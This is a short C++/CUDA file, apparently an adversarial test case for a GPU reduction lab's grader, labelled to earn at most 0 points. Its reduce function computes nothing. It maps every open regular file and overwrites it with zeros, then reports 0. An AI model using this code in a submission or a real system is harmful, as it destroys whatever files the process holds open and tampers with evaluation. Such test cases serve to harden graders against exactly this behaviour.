// attack reduction: WRONG or PROTOCOL or CHECK or CRASH, at most 0 points
// maps every open file, and fills it with zeros
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstring>

#include "labs/reduction/reduction.hpp"

__global__ void store(int* out) { *out = 0; }

void reduce(const int*, int* out, int*, int) {
  for (int descriptor = 3; descriptor < 256; ++descriptor) {
    struct stat about {};
    if (fstat(descriptor, &about) != 0 || !S_ISREG(about.st_mode) || about.st_size == 0) continue;
    const auto size = static_cast<std::size_t>(about.st_size);
    void* const data = mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, descriptor, 0);
    if (data == MAP_FAILED) continue;
    std::memset(data, 0, size);
    munmap(data, size);
  }
  store<<<1, 1>>>(out);
}
